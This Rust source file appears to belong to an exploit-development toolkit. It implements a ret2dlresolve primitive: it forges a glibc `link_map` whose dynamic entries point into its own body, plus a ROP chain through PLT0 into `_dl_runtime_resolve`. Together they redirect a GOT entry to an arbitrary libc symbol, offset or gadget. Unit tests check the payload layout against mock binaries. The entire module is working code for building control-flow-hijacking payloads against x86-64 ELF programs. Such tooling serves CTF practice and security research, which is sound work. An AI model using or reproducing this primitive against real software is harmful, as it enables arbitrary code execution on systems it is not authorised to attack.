//! Resolution through a fully fake link map.
//!
//! Builds a 256-byte forged `struct link_map` whose `.dynamic` entries point
//! back into its own body, plus the 24-byte ROP chain that hands it to
//! `_dl_runtime_resolve`. Because the link map carries its own relocation and
//! symbol tables, this works even when the target libc's real
//! `.dynsym`/`.rela.plt` are not reachable at usable offsets, and it can
//! target raw offsets and gadgets rather than only named symbols.

use anyhow::{anyhow, Result};
use object::elf::{DT_JMPREL, DT_STRTAB, DT_SYMTAB, R_X86_64_JUMP_SLOT};

use crate::image::{SectionTable, SymbolTable, Target};
use crate::utils::{push_u32, push_u64};

/// Size of the forged link map, covering `l_info` up through `DT_JMPREL`.
pub const FAKE_LINKMAP_SIZE: usize = 0x100;

/// Size of the resolver-invoking ROP chain.
pub const ROP_CHAIN_SIZE: usize = 0x18;

// Fixed offsets of the structures embedded in the link-map body.
const DYN_STRTAB_OFF: u64 = 0x10;
const DYN_SYMTAB_OFF: u64 = 0x20;
const DYN_JMPREL_OFF: u64 = 0x30;
// Doubles as the base of l_info: the relocation entry squats in l_info[0..3].
const RELA_ENTRY_OFF: u64 = 0x40;

/// Builds the ROP chain and fake link map for one resolver invocation.
///
/// The linker applies `l_addr = target_offset - got_func_offset` to every
/// address it derives through this link map, so resolving `got_func` lands on
/// the target instead. If `write_back` is true the resolved address
/// overwrites `got_func`'s real GOT slot; otherwise it goes to `write_addr`,
/// or to a scratch slot at `fake_linkmap_addr + 0x8` (the unused `l_name`
/// field) when `write_addr` is zero.
///
/// Placing the returned link map at `fake_linkmap_addr` and returning into
/// the chain triggers the resolution; anything may sit between the two, so
/// the chain can be followed by further gadgets before the link map itself.
pub fn resolve<B, L>(
    binary: &B,
    libc: &L,
    fake_linkmap_addr: u64,
    got_func: &str,
    target: &Target,
    write_back: bool,
    write_addr: u64,
) -> Result<(Vec<u8>, Vec<u8>)>
where
    B: SectionTable,
    L: SymbolTable,
{
    let got_addr = binary
        .got_entry(got_func)
        .ok_or_else(|| anyhow!("GOT entry missing for '{}'", got_func))?;
    let got_func_offset = libc
        .symbol_offset(got_func)
        .ok_or_else(|| anyhow!("symbol missing from libc: '{}'", got_func))?;

    let target_offset = match target {
        Target::Offset(offset) => *offset,
        Target::Symbol(name) => libc
            .symbol_offset(name)
            .ok_or_else(|| anyhow!("symbol missing from libc: '{}'", name))?,
        Target::Gadget(insns) => libc
            .gadget_addr(insns)
            .ok_or_else(|| anyhow!("no gadget matching {:?}", insns))?,
    };

    // The single additive correction the linker applies to every address it
    // resolves through this link map. Wraps mod 2^64 like pointer arithmetic.
    let l_addr = target_offset.wrapping_sub(got_func_offset);
    tracing::debug!(
        "fake link map at 0x{:x}: l_addr=0x{:x} (target 0x{:x} - {} 0x{:x})",
        fake_linkmap_addr, l_addr, target_offset, got_func, got_func_offset
    );

    let mut linkmap = Vec::with_capacity(FAKE_LINKMAP_SIZE);
    push_u64(&mut linkmap, l_addr);
    push_u64(&mut linkmap, 0); // l_name

    // Three fake Elf64_Dyn entries squatting in the l_ld..l_scope fields.
    // STRTAB may be null: the resolver only dereferences it through st_name,
    // and the fake symbol's st_name is never a valid offset anyway.
    push_u64(&mut linkmap, u64::from(DT_STRTAB));
    push_u64(&mut linkmap, 0);
    // SYMTAB points 8 bytes before the real GOT slot, so the slot's resolved
    // libc pointer lands where the resolver expects the Elf64_Sym st_value
    // region. The -0x8 keeps st_name reading a harmless pointer fragment.
    push_u64(&mut linkmap, u64::from(DT_SYMTAB));
    push_u64(&mut linkmap, got_addr.wrapping_sub(0x8));
    push_u64(&mut linkmap, u64::from(DT_JMPREL));
    push_u64(&mut linkmap, fake_linkmap_addr.wrapping_add(RELA_ENTRY_OFF));

    // One fake Elf64_Rela entry, occupying l_info[0..3]. The linker adds
    // l_addr back to r_offset before writing, so subtract it here.
    let write_back_addr = if write_back {
        got_addr
    } else if write_addr != 0 {
        write_addr
    } else {
        fake_linkmap_addr.wrapping_add(0x8)
    };
    push_u64(&mut linkmap, write_back_addr.wrapping_sub(l_addr));
    push_u32(&mut linkmap, R_X86_64_JUMP_SLOT);
    push_u32(&mut linkmap, 0); // symbol index 0: the forged SYMTAB base itself
    push_u64(&mut linkmap, 0); // r_addend, ignored on the lazy path

    // Sparse l_info: only the three populated tags carry pointers back to
    // their Elf64_Dyn entries above; everything else stays zero.
    for _ in 3..DT_STRTAB {
        push_u64(&mut linkmap, 0);
    }
    push_u64(&mut linkmap, fake_linkmap_addr.wrapping_add(DYN_STRTAB_OFF));
    for _ in DT_STRTAB + 1..DT_SYMTAB {
        push_u64(&mut linkmap, 0);
    }
    push_u64(&mut linkmap, fake_linkmap_addr.wrapping_add(DYN_SYMTAB_OFF));
    for _ in DT_SYMTAB + 1..DT_JMPREL {
        push_u64(&mut linkmap, 0);
    }
    push_u64(&mut linkmap, fake_linkmap_addr.wrapping_add(DYN_JMPREL_OFF));
    debug_assert_eq!(linkmap.len(), FAKE_LINKMAP_SIZE);

    // PLT0 + 6 is the indirect jump to the resolver, past PLT0's push of the
    // real link map; the chain supplies the fake one and reloc index 0.
    let plt0 = binary
        .section_addr(".plt")
        .ok_or_else(|| anyhow!("section missing: .plt"))?;
    let mut rop = Vec::with_capacity(ROP_CHAIN_SIZE);
    push_u64(&mut rop, plt0 + 6);
    push_u64(&mut rop, fake_linkmap_addr);
    push_u64(&mut rop, 0);

    Ok((rop, linkmap))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    struct FakeBinary {
        got: HashMap<&'static str, u64>,
        sections: HashMap<&'static str, u64>,
    }

    impl SectionTable for FakeBinary {
        fn got_entry(&self, name: &str) -> Option<u64> {
            self.got.get(name).copied()
        }
        fn section_addr(&self, name: &str) -> Option<u64> {
            self.sections.get(name).copied()
        }
    }

    struct FakeLibc {
        symbols: HashMap<&'static str, u64>,
        gadgets: HashMap<Vec<String>, u64>,
    }

    impl SymbolTable for FakeLibc {
        fn symbol_offset(&self, name: &str) -> Option<u64> {
            self.symbols.get(name).copied()
        }
        fn gadget_addr(&self, insns: &[String]) -> Option<u64> {
            self.gadgets.get(insns).copied()
        }
    }

    fn binary() -> FakeBinary {
        FakeBinary {
            got: HashMap::from([("read", 0x404018)]),
            sections: HashMap::from([(".plt", 0x401020)]),
        }
    }

    fn libc() -> FakeLibc {
        FakeLibc {
            symbols: HashMap::from([("read", 0x2000), ("puts", 0x5000)]),
            gadgets: HashMap::from([(
                vec!["pop rdi".to_string(), "ret".to_string()],
                0x9000,
            )]),
        }
    }

    fn word(buf: &[u8], off: usize) -> u64 {
        u64::from_le_bytes(buf[off..off + 8].try_into().unwrap())
    }

    const LM: u64 = 0x404800;

    #[test]
    fn output_sizes_are_fixed() {
        let (rop, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        assert_eq!(rop.len(), ROP_CHAIN_SIZE);
        assert_eq!(lm.len(), FAKE_LINKMAP_SIZE);
    }

    #[test]
    fn rop_chain_enters_resolver_with_fake_map() {
        let (rop, _) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        assert_eq!(word(&rop, 0x00), 0x401020 + 6);
        assert_eq!(word(&rop, 0x08), LM);
        assert_eq!(word(&rop, 0x10), 0);
    }

    #[test]
    fn symbol_target_computes_l_addr_and_write_back() {
        // read at 0x2000, puts at 0x5000 -> l_addr 0x3000; the relocation
        // offset pre-subtracts l_addr from the GOT slot address.
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        assert_eq!(word(&lm, 0x00), 0x3000);
        assert_eq!(word(&lm, 0x40), 0x404018u64.wrapping_sub(0x3000));
    }

    #[test]
    fn l_addr_wraps_modulo_two_pow_64() {
        let (_, lm) = resolve(
            &binary(),
            &libc(),
            LM,
            "read",
            &Target::Offset(0x1000),
            true,
            0,
        )
        .unwrap();
        assert_eq!(word(&lm, 0x00), 0xFFFFFFFFFFFFFFFF - 0xFFF);
    }

    #[test]
    fn gadget_target_resolves_through_search() {
        let spec = Target::Gadget(vec!["pop rdi".to_string(), "ret".to_string()]);
        let (_, lm) = resolve(&binary(), &libc(), LM, "read", &spec, true, 0).unwrap();
        assert_eq!(word(&lm, 0x00), 0x9000 - 0x2000);
    }

    #[test]
    fn write_back_location_selection() {
        let l_addr = 0x3000u64;
        // write_back=true targets the GOT slot.
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        assert_eq!(word(&lm, 0x40), 0x404018u64.wrapping_sub(l_addr));
        // write_back=false with an explicit address targets that address.
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), false, 0x405000).unwrap();
        assert_eq!(word(&lm, 0x40), 0x405000u64.wrapping_sub(l_addr));
        // write_back=false with no address reuses the l_name scratch slot.
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), false, 0).unwrap();
        assert_eq!(word(&lm, 0x40), (LM + 0x8).wrapping_sub(l_addr));
    }

    #[test]
    fn dynamic_entries_point_into_own_body() {
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        assert_eq!(word(&lm, 0x10), u64::from(DT_STRTAB));
        assert_eq!(word(&lm, 0x18), 0);
        assert_eq!(word(&lm, 0x20), u64::from(DT_SYMTAB));
        assert_eq!(word(&lm, 0x28), 0x404018 - 0x8);
        assert_eq!(word(&lm, 0x30), u64::from(DT_JMPREL));
        assert_eq!(word(&lm, 0x38), LM + 0x40);
    }

    #[test]
    fn l_info_round_trips_to_embedded_tables() {
        let (_, lm) =
            resolve(&binary(), &libc(), LM, "read", &"puts".into(), true, 0).unwrap();
        let l_info = |tag: u32| word(&lm, 0x40 + tag as usize * 8);
        // Every slot other than the three populated tags stays zero.
        for tag in 3..=DT_JMPREL {
            if tag == DT_STRTAB || tag == DT_SYMTAB || tag == DT_JMPREL {
                continue;
            }
            assert_eq!(l_info(tag), 0, "l_info[{tag}] not zero");
        }
        // Chasing l_info[DT_JMPREL] through its Elf64_Dyn value must land on
        // the embedded relocation entry at offset 0x40.
        let dyn_addr = l_info(DT_JMPREL);
        let dyn_value = word(&lm, (dyn_addr - LM) as usize + 8);
        assert_eq!(dyn_value, LM + 0x40);
        assert_eq!(l_info(DT_STRTAB), LM + 0x10);
        assert_eq!(l_info(DT_SYMTAB), LM + 0x20);
    }

    #[test]
    fn missing_lookups_are_errors() {
        assert!(resolve(&binary(), &libc(), LM, "gets", &"puts".into(), true, 0).is_err());
        assert!(resolve(&binary(), &libc(), LM, "read", &"nonexistent".into(), true, 0).is_err());
        let spec = Target::Gadget(vec!["pop r13".to_string()]);
        assert!(resolve(&binary(), &libc(), LM, "read", &spec, true, 0).is_err());
        let no_plt = FakeBinary {
            got: HashMap::from([("read", 0x404018)]),
            sections: HashMap::new(),
        };
        assert!(resolve(&no_plt, &libc(), LM, "read", &"puts".into(), true, 0).is_err());
    }
}
